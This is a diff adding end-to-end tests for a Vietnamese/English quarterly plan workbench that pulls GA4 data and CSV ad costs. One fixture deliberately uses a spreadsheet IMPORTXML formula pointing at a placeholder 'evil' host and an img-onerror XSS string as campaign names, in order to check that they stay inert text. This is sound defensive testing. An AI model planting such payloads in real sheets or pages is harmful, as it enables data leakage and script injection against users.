@@ -1,0 +1,306 @@
+import { describe, expect, it } from 'vitest';
+import { dataVi } from '../../src/words/data.vi.ts';
+import { dataPanelEn } from '../../src/words/data-panel.en.ts';
+import { dataPanelVi } from '../../src/words/data-panel.vi.ts';
+import { planAnswersVi } from '../../src/words/plan-answers.vi.ts';
+import type { Handle } from '../../src/workbench/page/handle.ts';
+import type { BeyondState, ClockRequest } from '../../src/workbench/protocol.ts';
+import { dayOf } from '../../src/workbench/vendors/ga4/days.ts';
+import { truth, truthBy } from '../../src/workbench/vendors/ga4/truth.ts';
+import type { FaultName } from '../../src/workbench/vendors/vendor.ts';
+import { next, quarterDesk, type SeenPlan, type Visitor } from './quarter-desk.ts';
+
+const desk = quarterDesk('vi', '2026-11-22');
+const say = dataPanelVi;
+const tab = 'Lan · Q4 2026';
+const viet = 'properties/311000001';
+const europe = 'properties/311000002';
+const where = dataVi.where('ga4', 'Shop Việt');
+const firstDay = dayOf(2026, 10, 1);
+
+interface Shared {
+  readonly workbench: Handle;
+}
+const clock = (lan: Visitor, change: ClockRequest): Promise<BeyondState> =>
+  lan.page.evaluate((asked) => (window as unknown as Shared).workbench.clock(asked), change);
+const fault = (lan: Visitor, name: FaultName, on: boolean): Promise<void> =>
+  lan.page.evaluate(([which, now]) => (window as unknown as Shared).workbench.fault(which, now), [
+    name,
+    on,
+  ] as const);
+
+/** Plans this quarter from its first page on, with what is proposed. */
+async function build(lan: Visitor, name: string): Promise<void> {
+  await lan.fill('#name', name);
+  await lan.choose('#role', 'digital');
+  await lan.choose('#quarter', '2026-10');
+  for (const step of ['#objective', '.numbers']) {
+    await lan.click(next);
+    await lan.waitFor(step);
+  }
+  await lan.fill('#LEADS-target', '1240');
+  for (const step of ['.check', '.summary', '.done']) {
+    await lan.click(next);
+    await lan.waitFor(step);
+  }
+}
+
+/** The page about a plan's data, read anew. */
+async function toData(lan: Visitor, name = 'Lan'): Promise<void> {
+  await lan.home();
+  await lan.click(`.plans li:has-text("${name}") [data-data]`);
+  await lan.waitFor('[data-input]');
+}
+
+async function connect(
+  lan: Visitor,
+  button: string,
+  name: string,
+  property: string,
+): Promise<void> {
+  await lan.press(button);
+  await lan.waitFor('.properties');
+  await lan.fill('#property-search', name);
+  await lan.page.keyboard.press('Enter');
+  await lan.click(`[data-property="${property}"]`);
+  await lan.click('.property .main');
+  await lan.waitFor('.feeds');
+}
+
+/** Shows how something is taken, where it is not shown. */
+async function unfold(lan: Visitor, input: string): Promise<void> {
+  if ((await lan.panel.locator(`#${input}-metric`).count()) === 0)
+    await lan.click(`#edit-${input}`);
+}
+
+async function save(lan: Visitor): Promise<void> {
+  if ((await lan.panel.locator('#who').count()) > 0) await lan.fill('#who', 'Lan');
+  await lan.click('footer .main');
+  await lan.waitFor('.schedule');
+}
+
+async function refresh(lan: Visitor): Promise<void> {
+  await lan.click('.refresh .main');
+  await lan.waitFor('.refresh progress');
+  await lan.waitFor('.refresh .main');
+  await lan.settle();
+}
+
+const said = async (lan: Visitor, selector = 'main'): Promise<string> =>
+  (await lan.panel.locator(selector).allTextContents()).join(' ');
+
+/** The rows of the data tab, by what they are for. */
+async function rows(lan: Visitor): Promise<readonly (readonly string[])[]> {
+  const { texts } = await lan.all(planAnswersVi.sharedTitle.data);
+  return texts.filter((line) => line[4] !== '').slice(1);
+}
+
+const logged = async (lan: Visitor): Promise<string> => {
+  const { texts } = await lan.all(planAnswersVi.sharedTitle.log);
+  return texts.map((line) => line.join(' | ')).join('\n');
+};
+
+const campaigns = ['Sale 11.11', '=IMPORTXML("http://evil","//a")', '<img src=x onerror=alert(1)>'];
+/** What every campaign cost in the days that the table holds. */
+const spent = [1_200_000, 350_000, 50_000];
+const tableDays = ['09', '10', '11', '12'];
+const costs = (last: string): string =>
+  [
+    'Ngày,Tên chiến dịch,Số tiền đã chi tiêu (VND)',
+    // Nothing was spent before: without this line nobody would know.
+    '01/10/2026,Sale 11.11,0',
+    ...tableDays.flatMap((day, at) =>
+      campaigns.map((name, which) => {
+        const amount = at === 3 && which === 2 ? last : String(spent[which]);
+        return `${day}/11/2026,"${name.replaceAll('"', '""')}",${amount}`;
+      }),
+    ),
+  ].join('\n');
+
+async function importTable(lan: Visitor, name: string, text: string): Promise<void> {
+  const chooser = lan.page.waitForEvent('filechooser');
+  await lan.menu('Tệp', 'Nhập tệp CSV…');
+  const file = { name: `${name}.csv`, mimeType: 'text/csv', buffer: Buffer.from(text) };
+  await (await chooser).setFiles(file);
+  await expect.poll(() => lan.sheets()).toContain(name);
+  await lan.settle();
+}
+
+const week = (plan: SeenPlan, at: number, input: string) =>
+  plan.value('input', plan.keys('input')[at] ?? '', input);
+
+describe('data that flows in', () => {
+  it('fills the quarter after a property is connected, and says which days are provisional', async () => {
+    const lan = desk.visitor();
+    await lan.openPanel();
+    await lan.click('main button.main');
+    await build(lan, 'Lan');
+    await toData(lan);
+    expect(await said(lan)).toContain(say.page.none);
+    await connect(lan, say.page.connectGa4, 'shop viet', viet);
+    // A conversion is what its user says it is: nothing is saved before.
+    await lan.panel.locator('[data-input="CVR.conversions"] .values label').first().waitFor();
+    await lan.click(next);
+    expect(await said(lan, '.asks .choose')).toContain(say.map.asks.eventName);
+    await lan.click('.asks .values label:has-text("generate_lead")');
+    await unfold(lan, 'LEADS');
+    await lan.choose('#LEADS-split', 'sessionCampaignName');
+    await save(lan);
+    await refresh(lan);
+
+    const plan = await lan.plan(tab);
+    const asked = { property: viet, from: dayOf(2026, 11, 9), to: dayOf(2026, 11, 15) };
+    expect(week(plan, 7, 'TRAFFIC')).toBe(truth({ ...asked, metric: 'sessions' }));
+    const leads = truth({ ...asked, metric: 'eventCount', only: [isLead] });
+    expect(week(plan, 7, 'LEADS')).toBe(leads);
+    const filled = plan.keys('input').map((_, at) => week(plan, at, 'LEADS'));
+    expect(filled.slice(9)).toEqual(Array(7).fill(null));
+    const total = filled.reduce<number>((sum, each) => sum + Number(each), 0);
+    expect(plan.value('score', 'LEADS', 'actual')).toBe(total);
+    expect(plan.text('score', 'LEADS', 'status')).toMatch(/^[●▲■]/);
+    expect(plan.shows('số liệu chốt đến 18/11, 3 ngày tạm tính')).toBe(true);
+    expect(plan.errors()).toEqual([]);
+    expect(await said(lan)).toContain(dataVi.said.through('Lan', where, '21/11/2026'));
+    // Days are read as days.
+    expect((await rows(lan))[0]?.slice(0, 2)).toEqual(['01/10/2026', '01/10/2026']);
+  });
+  const isLead = { dimension: 'eventName', is: ['generate_lead'] };
+
+  it('says what went wrong and what to do, keeps what was there, and heals', async () => {
+    const lan = desk.visitor();
+    for (const [name, trouble] of [
+      ['noPermission', dataVi.troubles.noPermission],
+      ['quotaHour', dataVi.troubles.quotaHour],
+    ] as const) {
+      // What was fetched just now is not fetched again.
+      await clock(lan, { hours: 1 });
+      const before = await lan.plan(tab);
+      await fault(lan, name, true);
+      await refresh(lan);
+      expect(await said(lan, '.problem')).toContain(trouble.what(where));
+      expect(await said(lan, '.problem')).toContain(trouble.way);
+      await lan.home();
+      expect(await said(lan, '.plans .error')).toContain(trouble.what(where));
+      expect((await lan.plan(tab)).cells.texts).toEqual(before.cells.texts);
+      await fault(lan, name, false);
+      // A quota is waited for, until the hour is over.
+      if (name === 'quotaHour') await clock(lan, { hours: 2 });
+      await toData(lan);
+      await refresh(lan);
+      expect(await lan.panel.locator('.problem').count()).toBe(0);
+    }
+    expect(await logged(lan)).toContain(dataVi.log.healed(where));
+  });
+
+  it('comes by itself, one more day each day', async () => {
+    const lan = desk.visitor();
+    await lan.choose('#schedule-every', 'day');
+    await lan.click('.schedule [type=submit]');
+    await lan.waitFor('.schedule .good');
+    const before = (await rows(lan)).filter(([, , , , input]) => input === 'TRAFFIC');
+    const { triggers } = await clock(lan, { hours: 24 });
+    expect(triggers).toHaveLength(1);
+    await lan.settle();
+    const after = (await rows(lan)).filter(([, , , , input]) => input === 'TRAFFIC');
+    const days = after.map(([from]) => from);
+    expect(new Set(days).size).toBe(days.length);
+    expect(days.length).toBe(before.length + 1);
+    expect(days.at(-1)).toBe('22/11/2026');
+    const plan = await lan.plan(tab);
+    expect(plan.text('score', 'TRAFFIC', 'through')).toBe('22/11/2026');
+    expect(plan.shows('số liệu chốt đến 19/11, 3 ngày tạm tính')).toBe(true);
+  });
+
+  it('takes costs from a table and a second property in another currency', async () => {
+    const lan = desk.visitor();
+    await importTable(lan, 'chi phi', costs('n/a'));
+    await toData(lan);
+    await lan.press(say.page.connectTable);
+    await lan.waitFor('#table-sheet');
+    const [value] = await lan.panel
+      .locator('#table-sheet option', { hasText: 'chi phi' })
+      .evaluateAll((options) => options.map((each) => (each as HTMLOptionElement).value));
+    await lan.choose('#table-sheet', value ?? '');
+    await lan.waitFor('#table-day');
+    expect(await lan.panel.locator('#table-day').inputValue()).toBe('Ngày');
+    expect(await lan.panel.locator('.sample img').count()).toBe(0);
+    await lan.click('main form .main');
+    await lan.waitFor('.feeds');
+    await lan.panel.locator('#from-CPL-cost').selectOption({ label: 'chi phi' });
+    await unfold(lan, 'CPL-cost');
+    await lan.choose('#CPL-cost-metric', 'Số tiền đã chi tiêu (VND)');
+    await lan.choose('#CPL-cost-split', 'Tên chiến dịch');
+    // The cell that is no number is called by its name.
+    await lan.panel.locator('.previews', { hasText: 'C14' }).waitFor();
+    await connect(lan, say.page.connectGa4, 'shop eu', europe);
+    await lan.panel.locator('#from-ROI-cost').selectOption({ label: 'Shop EU' });
+    await unfold(lan, 'ROI-cost');
+    await lan.choose('#ROI-cost-metric', 'advertiserAdCost');
+    expect(await said(lan, '.rate')).toContain('1 EUR = ? VND');
+    await save(lan);
+    await refresh(lan);
+    expect(await said(lan, '.problem')).toContain('C14');
+
+    const unknown = await lan.plan(tab);
+    expect(unknown.value('score', 'MKTSPEND', 'actual')).toBeNull();
+    expect(unknown.text('input', '.warnings', 'ROI.cost')).toContain('EUR');
+    await lan.type(unknown.a1('feeds', '.rate:EUR', 'from'), 'ba mươi', tab);
+    expect((await lan.plan(tab)).value('score', 'MKTSPEND', 'actual')).toBeNull();
+    await lan.type(unknown.a1('feeds', '.rate:EUR', 'from'), '30000', tab);
+    const rated = await lan.plan(tab);
+    const asked = { property: europe, from: dayOf(2026, 11, 9), to: dayOf(2026, 11, 15) };
+    const euros = truth({ ...asked, metric: 'advertiserAdCost' });
+    expect(week(rated, 7, 'ROI.cost')).toBeCloseTo(euros * 30_000, 2);
+    expect(rated.errors()).toEqual([]);
+    await toData(lan);
+    expect(await lan.panel.locator('.rate').count()).toBe(0);
+  });
+
+  it('tells campaigns apart, adds up before it divides, and leaves their names texts', async () => {
+    const lan = desk.visitor();
+    await lan.type('C14', String(spent[2]), 'chi phi');
+    await refresh(lan);
+    expect(await lan.panel.locator('.problem').count()).toBe(0);
+    const plan = await lan.plan(tab);
+    const value = (row: string, column: string) => plan.value('split', row, column);
+    const named = new Map(plan.keys('split').map((key) => [plan.text('split', key, 'title'), key]));
+    const sale = named.get('Sale 11.11') ?? '';
+    const through = dayOf(2026, 11, 12);
+    const leads = truthBy(
+      { property: viet, metric: 'eventCount', from: firstDay, to: through, only: [isLead] },
+      'sessionCampaignName',
+    );
+    expect(value(sale, 'CPL')).toBeCloseTo(
+      ((spent[0] ?? 0) * tableDays.length) / (leads.get('Sale 11.11') ?? 0),
+      6,
+    );
+    const all = spent.reduce((sum, each) => sum + each, 0) * tableDays.length;
+    const every = [...leads.values()].reduce((sum, each) => sum + each, 0);
+    expect(value('total', 'CPL')).toBeCloseTo(all / every, 6);
+    expect(plan.value('score', 'CPL', 'actual')).toBe(value('total', 'CPL'));
+    expect(named.has(campaigns[1] ?? '')).toBe(true);
+    const { formulas } = await lan.all(planAnswersVi.sharedTitle.data);
+    expect(formulas.flat().filter((each) => each !== '')).toEqual([]);
+    expect(plan.formulas().filter((each) => /^=\s*IMPORT/i.test(each))).toEqual([]);
+    expect(plan.errors()).toEqual([]);
+  });
+
+  it('goes the same way in English', async () => {
+    const lan = desk.visitor();
+    await lan.panel.locator('.languages [lang=en]').click();
+    await lan.home();
+    await lan.click('main button.main');
+    await build(lan, 'Ann');
+    await toData(lan, 'Ann');
+    await connect(lan, dataPanelEn.page.connectGa4, 'shop us', 'properties/311000003');
+    expect(await said(lan, '.asks .choose')).toContain(dataPanelEn.map.asks.eventName);
+    await lan.panel.locator('#from-CVR-conversions').selectOption('');
+    await save(lan);
+    await refresh(lan);
+    expect(await said(lan, '[data-input=TRAFFIC]')).toContain(dataPanelEn.home.provisional(3));
+    const plan = await lan.plan('Ann · Q4 2026');
+    expect(plan.text('score', 'TRAFFIC', 'actual')).not.toBe('');
+    expect(plan.cells.texts.flat().some((each) => /provisional.*\b3\b/.test(each))).toBe(true);
+    expect(plan.errors()).toEqual([]);
+  });
+});
